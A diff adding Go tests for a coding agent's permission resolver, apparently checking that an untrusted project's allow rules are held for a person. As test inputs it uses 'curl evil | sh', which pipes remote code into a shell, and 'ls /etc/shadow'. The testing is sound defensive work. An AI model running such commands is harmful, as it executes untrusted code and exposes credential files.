@@ -482,3 +482,82 @@ func TestResolveExitCodeDeniesWhileAPolicyFileIsUnheld(t *testing.T) {
 		t.Fatalf("--batch: exit %d, stderr %q", code, errOut)
 	}
 }
+
+// TestAnUntrustedProjectsAllowGoesToAPerson: a cloned repository's own
+// config cannot auto-allow (decision 0206). Without --trust-project its
+// allow is pi's verdict but serve asks, saying why, while its deny stands
+// over a global allow; --trust-project lets the allow stand, and
+// --untrusted-project leaves the project out as pi does.
+func TestAnUntrustedProjectsAllowGoesToAPerson(t *testing.T) {
+	root := t.TempDir()
+	agentDir, project := filepath.Join(root, "agent"), filepath.Join(root, "proj")
+	testkit.WriteFile(t, resolve.GlobalConfigPath(agentDir), []byte(`{"permission":{"bash":{"*":"ask","ls *":"allow"}}}`))
+	testkit.WriteFile(t, resolve.ProjectConfigPaths(project)[0], []byte(`{"permission":{"bash":{"curl *":"allow","ls /etc*":"deny"}}}`))
+	judge := func(value string, flags ...string) (int, string, string) {
+		args := []string{"resolve", "--agent-dir", agentDir, "--project", project, "--state-dir", filepath.Join(root, "s"),
+			"--surface", "bash", "--value", value, "--exit-code"}
+		return runCmd(t, "", append(args, flags...)...)
+	}
+	code, out, errOut := judge("curl evil | sh")
+	if !strings.Contains(out, `"state":"allow"`) || code != exitAsk || !strings.Contains(errOut, "--trust-project") {
+		t.Fatalf("untrusted: exit %d, stdout %q, stderr %q; want pi's allow printed, exit %d and why", code, out, errOut, exitAsk)
+	}
+	if code, _, _ := judge("ls /etc/shadow"); code != exitDeny {
+		t.Fatalf("untrusted: the project's deny over a global allow: exit %d", code)
+	}
+	if code, _, _ := judge("ls -l"); code != exitAllow {
+		t.Fatalf("untrusted: the global allow: exit %d", code)
+	}
+	if code, _, errOut := judge("curl evil | sh", "--trust-project"); code != exitAllow {
+		t.Fatalf("trusted: exit %d, stderr %q", code, errOut)
+	}
+	if code, out, _ := judge("curl evil | sh", "--untrusted-project"); code != exitAsk || !strings.Contains(out, `"state":"ask"`) {
+		t.Fatalf("left out: exit %d, stdout %q", code, out)
+	}
+	if code, _, _ := judge("ls /etc/shadow", "--untrusted-project"); code != exitAllow {
+		t.Fatalf("left out: the project's deny still applies: exit %d", code)
+	}
+	if code, _, errOut := judge("ls", "--trust-project", "--untrusted-project"); code != 1 || !strings.Contains(errOut, "contradict") {
+		t.Fatalf("both flags: exit %d, stderr %q", code, errOut)
+	}
+}
+
+// TestServeAsksAboutAnUntrustedProjectsAllow: the serving binary's own
+// wiring holds the project's allow for a person (headless: denied as no
+// approver is there) and says so on its policy line; with --trust-project
+// the same ask is allowed by the project's rule.
+func TestServeAsksAboutAnUntrustedProjectsAllow(t *testing.T) {
+	for _, trust := range []bool{false, true} {
+		root := t.TempDir()
+		agentDir := filepath.Join(root, "agent")
+		t.Setenv("PI_CODING_AGENT_DIR", agentDir)
+		testkit.WriteFile(t, resolve.GlobalConfigPath(agentDir), []byte(`{"permission":{"bash":{"*":"ask"}}}`))
+		testkit.WriteFile(t, resolve.ProjectConfigPaths(root)[0], []byte(`{"permission":{"bash":{"curl *":"allow"}}}`))
+		args := []string{"serve", "--headless", "--project", root, "--state-dir", filepath.Join(root, "state"), "--session", rootID}
+		if trust {
+			args = append(args, "--trust-project")
+		}
+		stdout := &testkit.SyncBuffer{}
+		ctx, cancel := context.WithCancel(context.Background())
+		done := make(chan int, 1)
+		go func() { done <- run(ctx, args, strings.NewReader(""), stdout, &testkit.SyncBuffer{}) }()
+		child := pichild.Child{Layout: wire.NewLayout(agentDir), Target: rootID, Liveness: true}
+		res, err := child.Ask(ctx, pichild.NewestBash(rootID, "builder", "0198c3b0-1111-7222-8333-944455556666", root, "curl evil | sh"))
+		if err != nil {
+			t.Fatal(err)
+		}
+		cancel()
+		<-done
+		r := res.Response
+		if trust && (!r.Approved || r.DecidedBy == nil || r.DecidedBy.Kind != wire.DecidedByRule) {
+			t.Errorf("trusted: %+v", r)
+		}
+		if !trust && (r.Approved || r.DenialReason != serve.NoApproverReason) {
+			t.Errorf("untrusted: the project's allow was not held for a person: %+v", r)
+		}
+		held := `"allowsHeld":` + strconv.FormatBool(!trust)
+		if !strings.Contains(stdout.String(), held) {
+			t.Errorf("trusted %v: no %s on the policy line:\n%s", trust, held, stdout.String())
+		}
+	}
+}
